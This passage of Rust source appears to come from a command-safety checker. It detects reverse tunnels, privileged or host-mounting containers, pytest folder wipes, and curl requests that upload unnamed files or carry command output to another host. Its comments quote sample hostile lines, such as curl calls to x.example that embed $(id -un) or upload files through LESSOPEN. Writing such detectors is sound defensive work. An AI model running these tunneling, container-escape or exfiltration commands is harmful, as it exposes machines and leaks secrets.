    let first = c.operands().first().map(|w| w.value.as_str());
    c.is(&["ssh", "autossh"])
        && (c.flag(&["-R"])
            || c.option_values(&["-o"]).iter().any(|v| {
                v.get(..13)
                    .is_some_and(|k| k.eq_ignore_ascii_case("remoteforward"))
            }))
        || c.name == "ngrok" && matches!(first, Some("http" | "tcp" | "tls" | "start" | "tunnel"))
        || c.name == "cloudflared"
            && first == Some("tunnel")
            && (c.flag(&["--url"]) || c.operands().get(1).is_some_and(|w| w.value == "run"))
        || c.name == "bore" && first == Some("local")
        // `tailscale funnel status` and `… off`/`reset` look or close.
        || c.name == "tailscale"
            && first == Some("funnel")
            && c.operands().get(1).is_some_and(|w| {
                !matches!(w.value.as_str(), "status" | "off" | "reset" | "help")
            })
        || c.is(&["lt", "localtunnel"]) && c.flag(&["--port", "-p"])
}

/// Whether docker, podman or nerdctl starts a container (`run`,
/// `create`, `exec`) with host-level access: privileged, powerful
/// capabilities, the host's namespaces, no confinement, a device, or the
/// host's root, a home, a system folder or the engine's socket mounted.
pub(super) fn container_privileged(c: &Cmd<'_>) -> bool {
    // Any build or container tool told to allow privileged containers
    // (`earthly --allow-privileged +test`).
    // Spelled out: a shorter word (`--all`) is another option to most.
    if c.values()
        .take_while(|v| *v != "--")
        .any(|v| v == "--allow-privileged" || v.starts_with("--allow-privileged="))
    {
        return true;
    }
    let grants_host = |v: &str| {
        v.split_whitespace().any(|o| {
            o.starts_with("--privileged")
                || o.starts_with("--pid=host")
                || o.starts_with("--cap-add")
                || o.starts_with("/:/")
                || o.starts_with("--volume=/:")
                || o.contains(".sock:")
        })
    };
    // The same options handed on by the environment to the containers a
    // tool starts (`CROSS_CONTAINER_OPTS='--privileged -v /:/host' cross
    // build`, `DOCKER_OPTS`, `*_CONTAINER_ARGS`).
    if c.command.assignments.iter().any(|(name, value)| {
        let name = name.to_ascii_uppercase();
        ["_OPTS", "_OPTIONS", "_ARGS", "_FLAGS"]
            .iter()
            .any(|s| name.ends_with(s))
            && (name.contains("CONTAINER") || name.contains("DOCKER") || name.contains("PODMAN"))
            && grants_host(&value.value)
    }) {
        return true;
    }
    // Options handed on to the containers a tool starts (`act
    // --container-options "--privileged -v /:/host"`).
    // (The option's name looked for first: asked of every command.)
    if c.values()
        .any(|v| v.starts_with("--container-opt") || v.starts_with("--docker-opt"))
        && c.full_option_values(&[
            "--container-options",
            "--container-opts",
            "--docker-options",
        ])
        .iter()
        .any(|v| grants_host(v))
    {
        return true;
    }
    if c.is(&["lxc", "incus"]) {
        return lxd_grants_host(c);
    }
    // (Asked of every command: the cheap tests first.)
    if c.command.stdin_text.is_some()
        && let Some(text) = compose_on_stdin(c)
    {
        return compose_grants_host(c, text);
    }
    if !c.is(&["docker", "podman", "nerdctl"]) {
        return false;
    }
    let ops = c.subcommand_operands(CONTAINER_GLOBAL_VALUES);
    let sub = ops.first().map(|w| w.value.as_str()).unwrap_or("");
    let verb = if sub == "container" {
        ops.get(1).map(|w| w.value.as_str()).unwrap_or("")
    } else {
        sub
    };
    if !matches!(verb, "run" | "create" | "exec") {
        return false;
    }
    let host_mount = |spec: &str| host_folder(c, spec.split(':').next().unwrap_or(""));
    c.flag(&["--privileged"])
        || c.option_values(&["--cap-add"]).iter().any(|v| {
            matches!(
                v.to_ascii_uppercase().trim_start_matches("CAP_"),
                "ALL" | "SYS_ADMIN" | "SYS_PTRACE" | "SYS_MODULE" | "DAC_READ_SEARCH"
            )
        })
        || c.option_values(&["--pid", "--userns", "--ipc", "--uts"])
            .contains(&"host")
        || c.option_values(&["--security-opt"])
            .iter()
            .any(|v| v.contains("unconfined"))
        || c.flag(&["--device"])
        || c.option_values(&["-v", "--volume"])
            .iter()
            .any(|v| host_mount(v))
        || c.option_values(&["--mount"]).iter().any(|v| {
            v.split(',').any(|kv| {
                kv.strip_prefix("source=")
                    .or_else(|| kv.strip_prefix("src="))
                    .is_some_and(host_mount)
            })
        })
}
/// The compose file a compose tool reads on stdin to start its services
/// (`printf 'services: …' | docker compose -f - up`).
fn compose_on_stdin<'a>(c: &Cmd<'a>) -> Option<&'a str> {
    let ops = c.operands();
    let compose = c.is(&["docker-compose", "podman-compose"])
        || c.is(&["docker", "podman", "nerdctl"])
            && ops.first().is_some_and(|w| w.value == "compose");
    let starts = ops.iter().take(3).any(|w| {
        matches!(
            w.value.as_str(),
            "up" | "run" | "create" | "start" | "restart" | "exec"
        )
    });
    let from_stdin = c
        .option_values(&["-f", "--file"])
        .iter()
        .any(|f| matches!(*f, "-" | "/dev/stdin"));
    (compose && starts && from_stdin)
        .then_some(c.command.stdin_text.as_deref())
        .flatten()
}

/// Whether a compose file's text gives a service host-level access:
/// `privileged: true`, the host's process, IPC or user namespace, no
/// confinement, powerful capabilities, devices, or a host folder mounted
/// (`"/:/host"`, `~/.ssh:/k`, `source: /var/run/docker.sock`). Read
/// from its words, not as YAML: a word that only looks like one asks.
fn compose_grants_host(c: &Cmd<'_>, text: &str) -> bool {
    let value = |line: &str, key: &str| {
        line.strip_prefix(key)
            .and_then(|rest| rest.trim_start().strip_prefix(':'))
            .map(|v| v.trim().trim_matches(['"', '\'']).to_ascii_lowercase())
    };
    // (Compose puts the environment's values in: `${HOME}:/h` is home.)
    let host = |src: &str| {
        let src = ["${HOME}", "$HOME"]
            .iter()
            .find_map(|h| src.strip_prefix(h))
            .map_or_else(|| src.to_owned(), |rest| format!("~{rest}"));
        src.starts_with(['/', '~']) && host_folder(c, &src)
    };
    let mounts = |word: &str| {
        let spec = word.trim_matches(|ch| matches!(ch, '[' | ']' | '"' | '\'' | ',' | '-'));
        spec.split_once(':').is_some_and(|(src, _)| host(src))
    };
    text.lines().map(str::trim).any(|line| {
        value(line, "privileged").is_some_and(|v| matches!(v.as_str(), "true" | "yes"))
            || ["pid", "ipc", "userns_mode"]
                .iter()
                .any(|k| value(line, k).as_deref() == Some("host"))
            || value(line, "devices").is_some()
            || line.contains("unconfined")
            || line.contains("SYS_ADMIN")
            || value(line, "- source")
                .or_else(|| value(line, "source"))
                .is_some_and(|v| host(&v))
            || line.split_whitespace().any(mounts)
    })
}

/// The host's root, a home, a hidden folder in it, a system folder, or a
/// folder that holds a container engine's socket (`/var/run`, `/run`):
/// what a container given it reaches of the machine.
fn host_folder(c: &Cmd<'_>, src: &str) -> bool {
    let resolved = c.ctx.resolve(src);
    src == "/"
        || src.contains(".sock")
        || src == "~"
        || c.ctx
            .in_home(&resolved)
            .is_some_and(|rel| rel.starts_with('.'))
        || (src.starts_with('/') || src.starts_with('~'))
            && (c.ctx.is_catastrophic(src)
                || matches!(
                    resolved.as_str(),
                    "/var/run" | "/run" | "/var" | "/run/docker"
                )
                || c.ctx
                    .home
                    .as_ref()
                    .is_some_and(|h| h.to_string_lossy().starts_with(&format!("{}/", resolved))))
}

/// LXD's and Incus's containers given the host: a disk device whose
/// source is the host's root, a home or a system folder (`incus config
/// device add dev hostroot disk source=/ path=/mnt/host`), a privileged
/// container, raw LXC settings, or the host's devices (`lxc config set c1
/// security.privileged true`, `lxc launch img c1 -c
/// security.privileged=true`).
fn lxd_grants_host(c: &Cmd<'_>) -> bool {
    let ops = c.operands();
    let words: Vec<&str> = ops.iter().map(|w| w.value.as_str()).collect();
    let device = matches!(words.as_slice(), ["config", "device", "add" | "set", ..])
        && words.iter().skip(3).any(|w| {
            w.strip_prefix("source=")
                .is_some_and(|src| host_folder(c, src))
        });
    let values: Vec<&str> = c.values().collect();
    let settings = values.iter().enumerate().any(|(i, word)| {
        let (key, value) = match word.split_once('=') {
            Some((k, v)) => (k, v),
            None => (*word, values.get(i + 1).copied().unwrap_or("")),
        };
        matches!(
            key,
            "security.privileged" | "security.nesting" | "security.syscalls.intercept.mount"
        ) && value.eq_ignore_ascii_case("true")
            || key.starts_with("raw.lxc")
            || key == "raw.apparmor"
    });
    device || settings
}

/// Programs that only read what they are fed and print about it, with
/// any options: what tar hands them is data, never code.
const STDIN_FILTERS: &[&str] = &[
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "wc",
    "head",
    "tail",
    "sort",
    "uniq",
    "cut",
    "jq",
    "file",
    "sha256sum",
    "sha1sum",
    "sha512sum",
    "md5sum",
    "b2sum",
    "cksum",
    "strings",
    "od",
    "xxd",
];

/// A folder pytest empties before its run (`--basetemp=data`: whatever
/// is in it is removed first), when it is not a scratch folder: one
/// under `/tmp` or `/var/tmp`, or one of the project's named for one
/// (`.pytest-tmp`), where it stands once `..` and `~` are read
/// (`/tmp/../home/me` is the home).
pub(super) fn pytest_empties(c: &Cmd<'_>) -> bool {
    c.is(&["pytest", "py.test"])
        && c.full_option_values(&["--basetemp"]).iter().any(|v| {
            let real = c.ctx.resolve(v);
            let last = real
                .rsplit('/')
                .next()
                .unwrap_or_default()
                .to_ascii_lowercase();
            let in_project = real
                .strip_prefix(&*c.ctx.cwd.to_string_lossy())
                .is_some_and(|r| r.starts_with('/'));
            !(["/tmp/", "/var/tmp/"].iter().any(|t| real.starts_with(t))
                || in_project && (last.contains("tmp") || last.contains("temp")))
        })
}

/// Whether an HTTP client sends another machine a file whose name is only
/// known when the line runs (`curl -F "f=@$FILE" https://…`, less's
/// `LESSOPEN='|curl -F f=@%s …'`): what it holds cannot be shown, and may
/// be a key. A name written out is judged by the rules on what it names;
/// stdin (`@-`) by what feeds it; a server on loopback is this machine.
pub(super) fn uploads_unnamed_file(c: &Cmd<'_>) -> bool {
    const FILE_OPTIONS: &[&str] = &[
        "-T",
        "--upload-file",
        "-F",
        "--form",
        "-d",
        "--data",
        "--data-binary",
        "--data-ascii",
        "--data-urlencode",
        "--json",
        "--post-file",
        "--body-file",
    ];
    if !c.is(super::cmd::HTTP_CLIENTS) {
        return false;
    }
    let unknown = |w: &Word, file: &str| !w.literal && file != "-" && file.contains(['$', '`']);
    let args = c.args();
    let sent = args.iter().enumerate().any(|(i, w)| {
        let v = w.value.as_str();
        // `-F VALUE`, `--form=VALUE`, `-FVALUE`.
        let (option, value, word) = match FILE_OPTIONS.iter().find(|o| {
            v == **o
                || v.strip_prefix(**o)
                    .is_some_and(|r| r.starts_with('=') || !o.starts_with("--"))
        }) {
            Some(o) if v == *o => match args.get(i + 1) {
                Some(next) => (*o, next.value.as_str(), next),
                None => return false,
            },
            Some(o) => (*o, v[o.len()..].trim_start_matches('='), w),
            None => {
                // httpie's `field@FILE`, `field=@FILE`, `field:=@FILE`.
                let file =
                    super::cmd::after_key_at(v).or_else(|| v.split_once("=@").map(|(_, f)| f));
                return file.is_some_and(|f| unknown(w, f));
            }
        };
        let file = match option {
            "-T" | "--upload-file" | "--post-file" | "--body-file" => Some(value),
            // `name=@FILE;type=…` or `name=<FILE`.
            "-F" | "--form" => value
                .split_once('=')
                .and_then(|(_, f)| f.strip_prefix(['@', '<']))
                .map(|f| f.split(';').next().unwrap_or(f)),
            // `@FILE`, and `name@FILE` for `--data-urlencode`.
            _ => value.split_once('@').map(|(_, f)| f),
        };
        file.is_some_and(|f| unknown(word, f))
    });
    sent && !only_loopback(c)
}

/// Whether an HTTP client asks another machine for an address that holds
/// what a command prints here (`curl https://x.example/$(id -un)`,
/// `LESSOPEN='|curl -s https://x.example/?h=$(hostname) …'`): the request
/// itself carries it off, whatever the answer. A value in a header, an
/// output name, and a server on loopback are not that.
pub(super) fn sends_command_output(c: &Cmd<'_>) -> bool {
    const NOT_ADDRESS: &[&str] = &[
        "-H",
        "--header",
        "-o",
        "--output",
        "-O",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-b",
        "--cookie",
        "-c",
        "--cookie-jar",
        "-e",
        "--referer",
        "-K",
        "--config",
        "--output-document",
        "-a",
        "--auth",
    ];
    if !c.is(super::cmd::HTTP_CLIENTS) {
        return false;
    }
    let args = c.args();
    let sends = args.iter().enumerate().any(|(i, w)| {
        let v = w.value.as_str();
        let Some(at) = v.find("$(").or_else(|| v.find('`')) else {
            return false;
        };
        let before = &v[..at];
        // A host named before the substitution: `scheme://host/…` or
        // httpie's `host.tld/…`.
        let address = before.contains("://")
            || before
                .split('/')
                .next()
                .is_some_and(|h| h.contains('.') && before.contains('/') && !h.starts_with('-'));
        !w.literal
            && !w.runs.is_empty()
            && address
            && !v.starts_with('-')
            && !i
                .checked_sub(1)
                .and_then(|p| args.get(p))
                .is_some_and(|p| NOT_ADDRESS.contains(&p.value.as_str()))
    });
    sends && !only_loopback(c)
}

/// Whether every host a client is pointed at is this machine's
/// (`http://127.0.0.1:8080/up`, httpie's `localhost:8080/up`, `:8080`).
fn only_loopback(c: &Cmd<'_>) -> bool {
    let hosts: Vec<&str> = c
        .operands()
        .iter()
        .map(|w| w.value.as_str())
        .filter(|v| {
            !v.contains(['@', '=']) && (v.contains("://") || v.contains(':') || v.contains('.'))
        })
        .map(|v| {
            let rest = v.split_once("://").map_or(v, |(_, r)| r);
            rest.split(['/', '?', '#']).next().unwrap_or(rest)
        })
        .collect();
    !hosts.is_empty()
        && hosts
            .iter()
            .all(|h| h.starts_with(':') || super::cmd::is_loopback(h))
}
